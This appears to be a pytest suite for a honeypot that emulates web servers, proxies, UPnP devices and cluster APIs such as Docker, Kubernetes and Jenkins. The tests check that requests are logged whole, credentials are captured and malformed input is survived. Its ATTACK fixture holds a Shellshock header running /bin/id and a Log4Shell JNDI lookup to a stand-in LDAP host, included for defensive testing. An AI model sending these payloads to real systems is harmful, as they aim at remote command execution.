"""HTTP as it is spoken on connections: evidence kept whole, other protocols refused, no bytes that break it."""

import re

import pytest

from rawspoof.core.conversation.base import Credential, Request, Then
from rawspoof.edges.system.signatures import load_catalogue
from tests.conversation.talks import NOON, converse, credentials, living, never_raises, said, talk

ATTACK = (
    b"POST /cgi-bin/x HTTP/1.1\r\nHost: a\r\nUser-Agent: () { :; }; /bin/id\r\nX-Api: ${jndi:ldap://b/c}\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n5\r\nabcde\r\n0\r\n\r\n"
)


@pytest.mark.parametrize("service", ["nginx", "apache", "iis", "device-page", "squid", "elasticsearch", "cups"])
def test_a_request_is_evidence_whole_and_answered_blandly(service):
    _, reply = converse(living(service), [ATTACK])
    assert [note.data for note in reply.notes if isinstance(note, Request)] == [ATTACK]
    assert reply.data.startswith(b"HTTP/1.")
    assert b"jndi" not in reply.data


def test_a_continued_request_is_one_piece_of_evidence():
    head = b"POST / HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: 23\r\n\r\n"
    replies = converse(living("apache"), [head, b"username=a&password=b%21"[:23]])
    requests = [note.data for reply in replies for note in reply.notes if isinstance(note, Request)]
    assert requests == [head + b"username=a&password=b%2"]
    assert credentials(replies) == [Credential("form", b"a", b"b%2")]


def test_daemons_of_upnp_answer_an_empty_line_and_whole_requests():
    assert said(converse(living("miniupnpd"), [b"\r\n"])).startswith(b" 501 Not Implemented")
    request = b"GET /rootDesc.xml HTTP/1.1\r\nHost: a\r\n\r\n"
    (_, reply) = converse(living("miniupnpd"), [request])
    assert reply.data.startswith(b"HTTP/1.1 404 ")
    assert reply.notes == (Request(request),)


def test_a_proxy_refuses_to_fetch_in_its_own_words():
    for asked in (
        b"GET http://a.example/ HTTP/1.1\r\nHost: a.example\r\n\r\n",
        b"CONNECT a.example:25 HTTP/1.0\r\n\r\n",
    ):
        for service in ("squid", "tinyproxy", "privoxy", "haproxy"):
            (_, reply) = converse(living(service), [asked])
            assert reply.data.split(b" ", 2)[1] in (b"400", b"403", b"407", b"503", b"405"), service


def test_a_head_without_end_is_refused_and_the_connection_closed():
    (_, reply) = converse(living("nginx"), [b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 4000])
    assert reply.data.startswith(b"HTTP/1.1 400 ")
    assert reply.then is Then.CLOSE


def test_a_device_has_no_patience_of_its_own():
    spoken = talk(living("device-page"))
    spoken.heard(b"GET / HTTP/1.0\r\n\r\n", NOON)
    assert spoken.patience_s is None


@pytest.mark.parametrize("service", ["nginx", "apache", "device-page", "miniupnpd", "squid"])
def test_no_bytes_break_it(service):
    words = (
        b"GET / HTTP/1.1\r\n",
        b"Host: a\r\n",
        b"\r\n",
        b"POST /x HTTP/1.0\r\n",
        b"Content-Length: 5\r\n",
        b"\x16\x03",
    )
    never_raises(living(service), *words, b"Authorization: Basic \xff\r\n", b"Expect: 100-continue\r\n", examples=40)


ODD = (
    b"GET / HTTP/1.1\r\n\r\n",
    b"HEAD /favicon.ico HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET /favicon.ico HTTP/1.0\r\n\r\n",
    b"POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: 19\r\n\r\nuser=bob&password=x",
    b"PUT /x HTTP/1.1\r\nHost: a\r\nAuthorization: NTLM TlRMTVNTUAABAAAAB4IIogAAAAAAAAAAAAAAAAAAAAA=\r\n\r\n",
    b"FOO * HTTP/1.1\r\nHost: <a>\r\nIf-None-Match: x\r\n\r\n",
    b"GET http://b/%00 HTTP/9.9\r\n\r\n",
    b"\xff\r\n\r\n",
)


def test_no_service_of_the_web_leaves_a_gap_in_any_answer():
    for name, service in load_catalogue(())[0].services.items():
        if service.site is None and service.protocol not in ("http", "http-proxy", "upnp", "ipp", "docker"):
            continue
        for request in ODD:
            (_, reply) = converse(living(name), [request])
            assert not re.search(rb"\{[a-z_]+\}", reply.data), (name, request)
            if reply.data.startswith(b"HTTP/1.1 200"):
                assert b"\r\n\r\n" in reply.data, (name, request)


def test_clusters_and_databases_answer_a_little_and_refuse_the_rest():
    asked = {
        "elasticsearch": ("GET /_search", 200, "DELETE /customers", 405),
        "elasticsearch-secured": ("GET /", 401, "GET /_cat/indices", 401),
        "docker": ("GET /version", 200, "POST /containers/create", 403),
        "kubernetes-api": ("GET /version", 200, "GET /api/v1/pods", 403),
        "kubelet": ("GET /healthz", 200, "POST /run/a/b/c", 401),
        "etcd": ("GET /version", 200, "PUT /v2/keys/x", 401),
        "couchdb": ("GET /", 200, "PUT /x", 401),
        "prometheus": ("GET /api/v1/targets", 200, "DELETE /x", 405),
        "consul": ("GET /v1/status/leader", 200, "PUT /v1/kv/x", 403),
        "grafana": ("GET /login", 200, "GET /api/users", 401),
        "jenkins": ("GET /login", 200, "POST /script", 403),
    }
    for service, (first, answered, second, refused) in asked.items():
        for line, status in ((first, answered), (second, refused)):
            (_, reply) = converse(
                living(service), [line.encode() + b" HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n"]
            )
            assert int(reply.data.split(b" ", 2)[1]) == status, (service, line)
